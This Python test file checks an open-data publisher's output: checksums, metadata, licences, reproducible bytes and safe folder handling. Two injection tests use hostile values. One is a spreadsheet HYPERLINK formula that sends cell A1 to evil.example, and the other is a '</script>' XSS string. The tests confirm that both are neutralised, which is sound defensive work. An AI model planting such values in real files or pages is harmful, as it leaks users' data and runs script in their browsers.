"""The open-data folder is complete, named by release, described from the contracts, reproducible and safe."""

from __future__ import annotations

import hashlib
import json
import re
import time
from pathlib import Path

import duckdb
import openpyxl
import pandas as pd
import pyarrow as pa
import pyarrow.parquet as pq
import pytest
from lxml import html

from spi_pipeline.contracts.errors import SpiError
from spi_pipeline.outputs.open_data import publish as publishing
from spi_pipeline_tests.integration.fixtures import Command
from spi_pipeline_tests.integration.sandboxes import Sandbox
from spi_pipeline_tests.outputs.open_data.conftest import RELEASE, Changed, Opened, publish_to

HOSTILE = '=HYPERLINK("http://evil.example?x="&A1,"Farley")'


def files(folder: Path) -> dict[str, bytes]:
    return {path.relative_to(folder).as_posix(): path.read_bytes() for path in folder.rglob("*") if path.is_file()}


def sums(folder: Path) -> dict[str, str]:
    lines = [line.split("  ", 1) for line in (folder / "checksums.txt").read_text("utf-8").splitlines()]
    return {path: digest for digest, path in lines}


def told(opened: Opened, name: str) -> dict:  # type: ignore[type-arg]
    found: dict = json.loads((opened.folder / name).read_text("utf-8"))  # type: ignore[type-arg]
    return found


def test_every_file_has_its_sum_and_each_to_take_away_the_release_in_its_name(opened: Opened) -> None:
    found = files(opened.folder)
    assert sums(opened.folder) == {
        path: hashlib.sha256(content).hexdigest() for path, content in found.items() if path != "checksums.txt"
    }
    top = {"README.md", "checksums.txt", "csv-metadata.json", "datapackage.json", "dataset.jsonld", "index.html"}
    assert {path for path in found if "/" not in path} == top
    assert all(re.fullmatch(rf"downloads/[a-z_]+-{RELEASE}\.[a-z]+", path) for path in found if "/" in path)


def test_it_is_as_small_and_as_quick_as_is_promised(refreshed: Sandbox, tmp_path: Path) -> None:
    before = time.process_time()
    publish_to(refreshed, tmp_path / "folder")
    assert time.process_time() - before < 15
    assert sum(map(len, files(tmp_path / "folder").values())) < 25e6


def test_every_table_is_described_as_its_contract_says(opened: Opened) -> None:
    contracts = opened.sandbox.contracts
    package = told(opened, "datapackage.json")
    resources = {each["name"]: each for each in package["resources"]}
    published = {name for name, product in contracts.products.items() if product.published}
    assert set(resources) == published | {"ward_overview", "element", "dictionary"}
    for name, resource in resources.items():
        content = (opened.folder / resource["path"]).read_bytes()
        assert resource["hash"] == f"sha256:{hashlib.sha256(content).hexdigest()}"
        assert resource["bytes"] == len(content)
        fields = resource["schema"]["fields"]
        assert content.decode().split("\n", 1)[0] == ",".join(f'"{field["name"]}"' for field in fields)
        assert all(field["description"] for field in fields)
        if name in published:
            assert resource["schema"]["primaryKey"] == list(contracts.products[name].key)
    score = {field["name"]: field for field in resources["score"]["schema"]["fields"]}
    assert score["rank"]["type"] == "integer"
    assert score["rank"]["description"] == "Rank within the authority, 1 is best (rank)"
    assert score["level"]["constraints"]["enum"] == ["indicator", "component", "dimension", "index"]
    assert score["score"]["constraints"] == {"minimum": 0, "maximum": 100}
    assert resources["score"]["schema"]["foreignKeys"] == [
        {"fields": ["area_code"], "reference": {"resource": "area", "fields": ["area_code"]}}
    ]
    # The area code of an allocation may be "outside".
    assert "foreignKeys" not in resources["allocation"]["schema"]


def test_licences_and_every_source_with_its_attribution_stand_in_each_description(opened: Opened) -> None:
    contracts = opened.sandbox.contracts
    package, linked = told(opened, "datapackage.json"), told(opened, "dataset.jsonld")
    readme = (opened.folder / "README.md").read_text("utf-8")
    assert [licence["name"] for licence in package["licenses"]] == ["OGL-UK-3.0"]
    assert package["version"] == linked["version"] == RELEASE
    # Several sources may share an address but require different attributions.
    owed = {source["path"] for source in package["sources"]}
    assert "https://github.com/PlaceBasedCarbonCalculator/PublicTransportAnalysis" in owed
    assert {source["creditText"] for source in linked["isBasedOn"]} == {
        source["attribution"] for source in package["sources"]
    }
    for source in contracts.sources.values():
        if source.properties.url in owed:
            assert source.properties.attribution in readme


def test_what_a_publisher_restricts_stands_beside_its_licence(
    refreshed: Sandbox, changed: Changed, tmp_path: Path
) -> None:
    def asked(releases: pa.Table) -> pa.Table:
        ids = ["local_health" if name == "bus_service" else name for name in releases["source_id"].to_pylist()]
        return releases.set_column(releases.column_names.index("source_id"), "source_id", pa.array(ids))

    opened = publish_to(refreshed, tmp_path / "folder", changed("source_release", asked))
    [restricted] = [source for source in told(opened, "datapackage.json")["sources"] if "restrictions" in source]
    assert "non commercial use only" in restricted["restrictions"][0]
    assert "non commercial use only (life_expectancy" in (opened.folder / "README.md").read_text("utf-8")


def test_the_page_carries_the_dataset_and_leads_to_every_file(opened: Opened) -> None:
    page = html.parse(str(opened.folder / "index.html"))
    [carried] = page.xpath("//script[@type='application/ld+json']/text()")
    assert json.loads(carried) == told(opened, "dataset.jsonld")
    linked = {str(href) for href in page.xpath("//@href") if not str(href).startswith("http")}
    assert linked >= set(files(opened.folder)) - {"index.html"}
    assert all((opened.folder / href).is_file() for href in linked)
    downloads = {each["contentUrl"]: each for each in told(opened, "dataset.jsonld")["distribution"]}
    assert set(downloads) == {path for path in files(opened.folder) if "/" in path}
    known = sums(opened.folder)
    assert all(each["sha256"] == known[path] for path, each in downloads.items() if not path.endswith(".duckdb"))


def test_the_same_publication_gives_the_same_bytes_and_a_database_of_the_same_tables(
    opened: Opened, tmp_path: Path
) -> None:
    again = publish_to(opened.sandbox, tmp_path / "folder")
    database = opened.file("spi.duckdb").relative_to(opened.folder).as_posix()
    one, two = files(opened.folder), files(again.folder)
    assert one.keys() == two.keys()
    assert {path for path in one if one[path] != two[path]} <= {database, "checksums.txt"}
    one_sums, two_sums = sums(opened.folder), sums(again.folder)
    assert {path for path in one_sums if one_sums[path] != two_sums[path]} <= {database}
    with duckdb.connect() as connection:
        connection.execute(f"ATTACH '{opened.file('spi.duckdb')}' AS one (READ_ONLY)")
        connection.execute(f"ATTACH '{again.file('spi.duckdb')}' AS two (READ_ONLY)")
        connection.execute(f"ATTACH '{opened.sandbox.store.database}' AS source (READ_ONLY)")
        names = [name for (name,) in connection.execute(
            "SELECT table_name FROM information_schema.tables WHERE table_catalog = 'source'").fetchall()]  # fmt: skip
        assert len(names) > 20
        for name in names:
            for other in ("two", "source"):
                for here, there in (("one", other), (other, "one")):
                    rest = f'SELECT * FROM {here}."{name}" EXCEPT ALL SELECT * FROM {there}."{name}"'
                    assert connection.execute(f"SELECT count(*) FROM ({rest})").fetchall() == [(0,)], name


def test_an_earlier_release_is_replaced_whole(refreshed: Sandbox, tmp_path: Path) -> None:
    publish_to(refreshed, tmp_path / "folder", release="2025-1")
    publish_to(refreshed, tmp_path / "folder")
    assert not [path for path in files(tmp_path / "folder") if "2025-1" in path]
    assert sums(tmp_path / "folder").keys() == files(tmp_path / "folder").keys() - {"checksums.txt"}
    assert [path.name for path in tmp_path.iterdir()] == ["folder"]


def test_what_others_wrote_is_never_replaced(refreshed: Sandbox, tmp_path: Path) -> None:
    folder = tmp_path / "folder"
    publish_to(refreshed, folder)
    (folder / "CNAME").write_text("data.example.org", encoding="utf-8")
    mine = tmp_path / "mine"
    mine.mkdir()
    (mine / "thesis.txt").write_text("years of work", encoding="utf-8")
    # Checksums alone do not prove that spi publish wrote a folder.
    (mine / "checksums.txt").write_text(f"{'0' * 64}  thesis.txt\n", encoding="utf-8")
    linked = tmp_path / "linked"
    linked.mkdir()
    (linked / "elsewhere").symlink_to(mine, target_is_directory=True)
    damaged = tmp_path / "damaged"
    damaged.mkdir()
    (damaged / "checksums.txt").write_bytes(b"\xff\xfe")
    for target, named in (
        (folder, "CNAME"), (mine, "checksums.txt"), (mine / "thesis.txt", "thesis.txt"), (linked, "elsewhere"),
        (damaged, "checksums.txt"), (Path("/dev/null"), "/dev/null"),
    ):  # fmt: skip
        before = files(tmp_path)
        with pytest.raises(SpiError, match=rf"{named} was not written by spi publish.*name a new or an empty folder"):
            publish_to(refreshed, target)
        assert files(tmp_path) == before


def test_what_fails_on_the_way_leaves_the_earlier_release(
    refreshed: Sandbox, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    def full(*_: object) -> None:
        raise OSError(28, "No space left on device")

    publish_to(refreshed, tmp_path / "folder")
    before = files(tmp_path)
    monkeypatch.setattr(publishing, "_describe", full)
    for target in ("folder", "other"):
        with pytest.raises(SpiError, match=r"No space left on device.*free some disk space"):
            publish_to(refreshed, tmp_path / target)
        assert files(tmp_path) == before
        assert [path.name for path in tmp_path.iterdir()] == ["folder"]


def test_a_release_is_a_word_that_may_stand_in_a_name(refreshed: Sandbox, tmp_path: Path) -> None:
    with pytest.raises(SpiError, match=r"'../up' cannot name a release"):
        publish_to(refreshed, tmp_path / "folder", release="../up")
    assert list(tmp_path.iterdir()) == []


def test_an_area_named_like_a_formula_is_a_text_everywhere(
    refreshed: Sandbox, changed: Changed, tmp_path: Path
) -> None:
    def named(areas: pa.Table) -> pa.Table:
        names = [HOSTILE if name == "Farley" else name for name in areas["area_name"].to_pylist()]
        return areas.set_column(areas.column_names.index("area_name"), "area_name", pa.array(names))

    opened = publish_to(refreshed, tmp_path / "folder", changed("area", named))
    assert f"'{HOSTILE}" in set(pd.read_csv(opened.file("area.csv"))["area_name"])
    assert f"'{HOSTILE}" in set(pd.read_csv(opened.file("ward_overview.csv"))["area_name"])
    assert HOSTILE in pq.read_table(opened.file("area.parquet"))["area_name"].to_pylist()
    cells = [
        cell for sheet in openpyxl.load_workbook(opened.file("spi.xlsx")) for row in sheet.iter_rows() for cell in row
    ]
    assert HOSTILE in {cell.value for cell in cells}
    assert {cell.data_type for cell in cells} <= {"s", "n"}, "a formula would be of type f"
    for file in opened.folder.rglob("*.csv"):
        assert not re.search(r'(^|,)"[=+\-@\t\r\n]', file.read_text("utf-8"), re.MULTILINE), file.name


def test_a_name_cannot_end_the_script_of_the_page(refreshed: Sandbox, changed: Changed, tmp_path: Path) -> None:
    name = "</script><script>alert(1)</script>"

    def called(areas: pa.Table) -> pa.Table:
        rows = areas.to_pylist()
        names = [name if row["level"] == "authority" else row["area_name"] for row in rows]
        return areas.set_column(areas.column_names.index("area_name"), "area_name", pa.array(names))

    opened = publish_to(refreshed, tmp_path / "folder", changed("area", called))
    page = html.parse(str(opened.folder / "index.html"))
    [script] = page.xpath("//script")
    assert json.loads(script.text)["spatialCoverage"]["name"] == name


def test_the_command_names_the_files_by_the_publication(refreshed: Sandbox, spi: Command, tmp_path: Path) -> None:
    said = spi(refreshed, "publish", str(tmp_path / "folder"))
    assert said.code == 0, said.err
    version = refreshed.store.published.resolve().name
    assert (tmp_path / "folder" / "downloads" / f"score-{version}.csv").is_file()
    files = [path for path in (tmp_path / "folder" / "downloads").iterdir() if path.is_file()]
    assert f"{len(files)} files to download" in said.out


def test_where_nothing_is_published_a_sentence_says_so(spi: Command, tmp_path: Path, refreshed: Sandbox) -> None:
    empty = Sandbox(refreshed.settings.model_copy(update={"store": str(tmp_path / "empty")}))
    said = spi(empty, "publish", str(tmp_path / "folder"))
    assert (said.code, said.out) == (1, "")
    assert "nothing is published" in said.err
    assert not (tmp_path / "folder").exists()
